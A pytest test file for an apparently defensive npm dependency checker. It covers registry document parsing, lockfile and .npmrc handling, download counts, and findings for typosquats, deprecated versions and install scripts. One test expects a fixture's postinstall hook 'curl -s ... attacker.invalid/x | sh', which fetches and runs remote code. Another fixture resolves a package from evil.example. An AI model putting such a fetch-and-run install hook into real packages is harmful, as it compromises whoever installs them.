"""npm against the loopback registry: documents, downloads, configuration, and whole runs."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from depguard.registries import npm_document
from depguard.registries.npm import package_path
from depguard.registries.npm_document import parse_packument

from support.registry_server import ABBREVIATED, Answer, RegistryServer

FIXTURES = Path(__file__).resolve().parents[1] / "fixtures" / "npm"
DOCUMENTS = sorted(p for p in FIXTURES.rglob("*.json") if p.parent.name != "downloads")


def full_parse(body: bytes, name: str) -> Any:
    """The slow path, for comparison: every version parsed."""
    original = npm_document._split_versions
    npm_document._split_versions = lambda text: None  # type: ignore[assignment]
    try:
        return parse_packument(body, name)
    finally:
        npm_document._split_versions = original


@pytest.mark.parametrize("path", DOCUMENTS, ids=lambda p: str(p.relative_to(FIXTURES)))
def test_partial_reading_gives_the_same_facts_as_a_full_parse(path: Path) -> None:
    body = path.read_bytes()
    assert npm_document._split_versions(body.decode()) is not None  # the fast path is taken
    assert parse_packument(body, path.stem) == full_parse(body, path.stem)


def test_facts_from_a_full_document() -> None:
    info = parse_packument((FIXTURES / "packument/evp_bytestokey.json").read_bytes(), "x")
    assert info.document == "full"
    assert info.created is not None and info.created.year == 2015
    assert info.latest_version == "1.0.3" and info.releases == 4
    assert info.maintainers == ("dcousens", "cwmma")
    assert info.repository == "https://github.com/crypto-browserify/EVP_BytesToKey"
    assert info.version_install_scripts == {"1.0.1": {"install": "node-gyp rebuild"}}
    circular = parse_packument((FIXTURES / "packument/circular-json.json").read_bytes(), "c")
    assert len(circular.deprecated) == circular.releases == 22
    assert set(circular.version_install_scripts) == {"0.5.7", "0.5.8"}


def test_abbreviated_document_leaves_what_it_lacks_unknown() -> None:
    body = (FIXTURES / "abbreviated/circular-json.json").read_bytes()
    info = parse_packument(body, "circular-json")
    assert info.document == "abbreviated"
    assert info.created is None and info.maintainers is None and info.repository is None
    assert info.version_install_scripts == {"0.5.7": {}, "0.5.8": {}}  # hasInstallScript
    assert len(info.deprecated) == 22


def test_mirror_document_without_time_created_has_no_creation_date() -> None:
    info = parse_packument((FIXTURES / "packument/left-pad.json").read_bytes(), "left-pad")
    assert info.created is None
    assert info.latest_release is not None  # the mirror's time.<version>, whatever it says


def test_provenance_and_security_holding() -> None:
    signed = parse_packument((FIXTURES / "packument/sigstore.json").read_bytes(), "sigstore")
    assert signed.provenance is True
    held = parse_packument((FIXTURES / "packument/holding-pkg.json").read_bytes(), "holding-pkg")
    assert held.status == "quarantined"


def test_not_a_package_document_is_an_error() -> None:
    with pytest.raises(npm_document.DocumentError):
        parse_packument(b"<html>hi</html>", "x")
    with pytest.raises(npm_document.DocumentError):
        parse_packument(b'{"hello": "world"}', "x")


def test_scoped_names_are_url_encoded() -> None:
    assert package_path("@isaacs/testing-fail-postinstall") == "@isaacs%2Ftesting-fail-postinstall"
    assert package_path("left-pad") == "left-pad"


def write(path: Path, text: str) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text, encoding="utf-8")
    return path


def manifest(workdir: Path, deps: dict[str, str], **extra: Any) -> Path:
    return write(workdir / "package.json", json.dumps({"dependencies": deps, **extra}, indent=2))


def test_check_package_json(depguard: Any, workdir: Path, registry: RegistryServer) -> None:
    manifest(
        workdir,
        {
            "left-pad": "^1.1.0",
            "@isaacs/testing-fail-postinstall": "^1.0.0",
            "circular-json": "~0.5.0",
            "lefft-padd": "^1.0.0",
            "pad": "npm:left-pad@1.2.0",
        },
    )
    result = depguard("check", "package.json", "--format", "json")
    assert result.code == 1
    report = result.json
    assert {p["ecosystem"] for p in report["packages"]} == {"npm"}
    assert result.ids("lefft-padd") == ["not-found"]
    scoped = result.package("@isaacs/testing-fail-postinstall")
    assert scoped["normalized"] == "@isaacs/testing-fail-postinstall"
    scripts = [f for f in scoped["findings"] if f["id"] == "install-scripts"]
    assert scripts and scripts[0]["scripts"] == {"postinstall": "exit 1"}
    assert "/npm/@isaacs%2Ftesting-fail-postinstall" in registry.requests
    deprecated = [f for f in result.package("circular-json")["findings"] if f["id"] == "deprecated"]
    assert deprecated and deprecated[0]["version"] == "0.5.9"
    left_pad = result.package("left-pad")
    assert left_pad["aliases"] == ["pad"]  # "pad": "npm:left-pad@1.2.0" is checked as left-pad
    assert "1.2.0" in left_pad["versions"]
    assert left_pad["metadata"]["created"] is None  # the mirror document has no time.created
    assert "recently-created" not in result.ids("left-pad")
    assert registry.count("/npm/pad") == 0


def test_install_script_text_is_sanitised(depguard: Any, workdir: Path) -> None:
    manifest(workdir, {"evil-postinstall": "*"})
    text = depguard("check", "package.json")
    assert "\x1b" not in text.out + text.err
    unwrapped = " ".join(" ".join(line.split()) for line in text.out.splitlines())
    assert "postinstall: curl -s" in unwrapped and "attacker.invalid/x | sh" in unwrapped
    as_json = depguard("check", "package.json", "--format", "json")
    assert "\x1b" not in as_json.out
    finding = next(
        f for f in as_json.package("evil-postinstall")["findings"] if f["id"] == "install-scripts"
    )
    assert "\x1b" not in json.dumps(finding, ensure_ascii=False)


def test_check_lockfile_with_unexpected_registry(
    depguard: Any, workdir: Path, registry: RegistryServer
) -> None:
    lock = {
        "lockfileVersion": 3,
        "packages": {
            "": {"name": "app", "dependencies": {"left-pad": "^1", "x": "^1"}},
            "node_modules/x": {"version": "1.0.0", "dependencies": {"ms": "^2"}, "link": True},
            "node_modules/left-pad": {
                "version": "1.3.0",
                "resolved": f"{registry.npm_registry}/left-pad/-/left-pad-1.3.0.tgz",
            },
            "node_modules/x/node_modules/ms": {
                "version": "2.1.3",
                "resolved": "https://registry.npmjs.org/ms/-/ms-2.1.3.tgz",
            },
            "node_modules/is-number": {
                "version": "7.0.0",
                "resolved": "https://evil.example/is-number/-/is-number-7.0.0.tgz",
            },
            "node_modules/is-odd": {"version": "9.9.9", "resolved": None},
        },
    }
    write(workdir / "package-lock.json", json.dumps(lock, indent=2))
    result = depguard("check", "package-lock.json", "--format", "json")
    assert result.ids("left-pad") == []
    assert result.ids("ms") == []  # the public registry: npm swaps it for the configured one
    assert result.ids("is-number") == ["unexpected-registry"]
    finding = result.package("is-number")["findings"][0]
    assert finding["resolved"].startswith("https://evil.example/")
    line = result.package("is-number")["locations"][0]["line"]
    assert (
        '"node_modules/is-number"'
        in (workdir / "package-lock.json").read_text().split("\n")[line - 1]
    )
    assert result.package("left-pad")["direct"] is True and "via" not in result.package("left-pad")
    assert result.package("ms")["direct"] is False and result.package("ms")["via"] == ["x"]
    assert result.package("is-number")["via"] == []  # nothing in the lock needs it
    assert "unknown-version" in result.ids("is-odd")


def test_npmrc_registry_and_scoped_registry(
    depguard: Any, workdir: Path, registry: RegistryServer, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.delenv("DEPGUARD_NPM_REGISTRY")
    write(
        workdir / ".npmrc",
        f"registry={registry.base}/npm\n@corp:registry=${{CORP_REGISTRY}}\n"
        "//npm.corp.example/:_authToken=secret-token\n",
    )
    monkeypatch.setenv("CORP_REGISTRY", f"{registry.base}/corp-npm/")
    seen: list[str] = []

    def corp(request: Any) -> Answer | None:
        if request.path.startswith("/corp-npm/"):
            seen.append(request.path)
            body = (FIXTURES / "packument/tiny-tarball.json").read_bytes()
            return Answer(200, body.replace(b'"tiny-tarball"', b'"@corp/tiny"'))
        return None

    registry.handler = corp
    manifest(workdir, {"left-pad": "^1", "@corp/tiny": "^1"})
    result = depguard("check", "package.json", "--format", "json")
    assert result.code == 0, result.out + result.err
    assert seen == ["/corp-npm/@corp%2Ftiny"]
    assert registry.count("/npm/left-pad") == 1
    assert "secret-token" not in result.out + result.err


def test_npm_registry_flag_wins(depguard: Any, workdir: Path, registry: RegistryServer) -> None:
    manifest(workdir, {"left-pad": "^1"})
    registry.routes["/other/left-pad"] = Answer(
        200, (FIXTURES / "packument/left-pad.json").read_bytes()
    )
    result = depguard("check", "package.json", "--npm-registry", f"{registry.base}/other/")
    assert result.code == 0, result.out + result.err
    assert registry.count("/other/left-pad") == 1 and registry.count("/npm/") == 0
    bad = depguard("check", "package.json", "--npm-registry", "ftp://nope")
    assert bad.code == 2 and "npm_registry must be an http(s) URL" in bad.err


def test_popular_packages_get_the_abbreviated_document(
    depguard: Any, workdir: Path, registry: RegistryServer
) -> None:
    accepts: dict[str, str] = {}

    def record(request: Any) -> Answer | None:
        accepts[request.path] = request.headers.get("accept", "")
        return None

    registry.handler = record
    manifest(workdir, {"ms": "^2", "tiny-tarball": "^1"})
    result = depguard("check", "package.json", "--format", "json")
    assert result.code == 0, result.out
    assert accepts["/npm/ms"].startswith(ABBREVIATED)  # on the bundled popularity list
    assert accepts["/npm/tiny-tarball"] == "application/json"  # unknown: the full document


def test_registry_unreachable_fails_closed(
    depguard: Any, workdir: Path, registry: RegistryServer
) -> None:
    registry.handler = lambda request: (
        Answer(503, b"") if request.path.startswith("/npm/") else None
    )
    manifest(workdir, {"is-odd": "^3"})
    result = depguard("check", "package.json", "--format", "json", "--timeout", "1")
    assert result.code == 1
    assert result.ids("is-odd") == ["registry-error"]


def test_downloads_bulk_scoped_and_fallback(
    depguard: Any, workdir: Path, registry: RegistryServer
) -> None:
    manifest(
        workdir, {"tiny-tarball": "^1", "not-licensed": "^1", "@types/left-pad": "*", "ms": "^2"}
    )
    registry.routes["/npm-downloads/point/last-month/tiny-tarball,not-licensed"] = Answer(
        200, b'{"tiny-tarball": {"downloads": 1234, "package": "x"}, "not-licensed": null}'
    )
    registry.routes["/npm-downloads/point/last-month/@types/left-pad"] = Answer(
        200, b'{"downloads": 42, "package": "@types/left-pad"}'
    )
    result = depguard("check", "package.json", "--format", "json")
    meta = {p["name"]: p["metadata"] for p in result.json["packages"]}
    assert meta["tiny-tarball"]["downloads_last_month"] == 1234
    assert meta["not-licensed"]["downloads_last_month"] is None
    assert meta["@types/left-pad"]["downloads_last_month"] == 42
    # popular: the snapshot has its rank, not a count
    assert meta["ms"]["downloads_last_month"] is None and meta["ms"]["popularity_rank"] > 0
    assert registry.count("/npm-downloads/point/last-month/ms") == 0


def test_downloads_api_down_falls_back_to_the_snapshot(
    depguard: Any, workdir: Path, registry: RegistryServer
) -> None:
    registry.handler = lambda request: (
        Answer(503, b"") if request.path.startswith("/npm-downloads/") else None
    )
    manifest(workdir, {"tiny-tarball": "^1"})
    result = depguard("check", "package.json", "--format", "json")
    assert result.package("tiny-tarball")["metadata"]["downloads_last_month"] is None
    assert any("npm download counts" in n for n in result.json["notices"])


def test_mixed_repository_one_report(depguard: Any, workdir: Path) -> None:
    write(workdir / "requirements.txt", "six\n")
    write(workdir / "web/package.json", json.dumps({"dependencies": {"left-pad": "^1"}}))
    write(workdir / "web/src/index.ts", "import pad from 'left-pad';\nimport o from 'is-odd';\n")
    result = depguard("check", ".", "--format", "json")
    ecosystems = {(p["ecosystem"], p["name"]) for p in result.json["packages"]}
    assert {("pypi", "six"), ("npm", "left-pad"), ("npm", "is-odd")} <= ecosystems
    assert result.ids("is-odd") == ["undeclared-import"]
    assert result.ids("left-pad") == []


def test_bulk_downloads_hold_at_most_128_names(registry: RegistryServer) -> None:
    import asyncio

    from depguard.registries.downloads import NpmDownloads
    from depguard.registries.http import HttpClient

    names = [f"pkg{i}" for i in range(130)] + ["@s/a"]

    async def run() -> dict[str, int | None]:
        async with HttpClient() as http:
            return await NpmDownloads(http, registry.npm_downloads_url).last_month(names)

    counts = asyncio.run(run())
    assert set(counts) == set(names) and set(counts.values()) == {None}
    asked = sorted(
        len(r.rsplit("/", 1)[-1].split(","))
        for r in registry.requests
        if r.startswith("/npm-downloads/point/last-month/")
    )
    assert asked == [1, 2, 128]


def test_a_package_with_no_versions_left_is_blocked(depguard, workdir: Path) -> None:
    # Recorded from the mirror: an unpublished (or taken-down) name keeps an empty document.
    write(workdir / "package.json", '{"dependencies": {"lodahs": "^4.17.0"}}')
    result = depguard("check", "package.json", "-f", "json")
    package = result.package("lodahs")
    assert package["verdict"] == "block" and result.code == 1
    quarantined = next(f for f in package["findings"] if f["id"] == "quarantined")
    assert "no versions left" in quarantined["message"]
